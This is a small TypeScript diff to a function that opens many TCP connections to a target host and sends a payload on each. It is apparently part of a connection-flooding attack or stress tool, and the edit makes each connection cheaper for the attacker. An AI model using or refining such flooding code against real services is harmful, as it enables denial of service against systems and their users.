@@ -76,11 +76,12 @@ export function loops(count: number, target: Attempt, requestOf: Request): EndAt
 /** Opens so many connections and sends `text` on each, and nothing more. */
 export function sockets(count: number, target: Target, text: string): EndAttack {
   const { hostname, port } = new URL(target.url);
+  const bytes = Buffer.from(text); // Once: a megabyte for each connection costs more than it costs the platform.
   const open: Socket[] = Array.from({ length: some(count, target) }, () =>
     connect(Number(port), hostname)
       .on('error', () => {})
       .once('connect', function (this: Socket) {
-        this.write(text);
+        this.write(bytes);
       }),
   );
   return async () => {
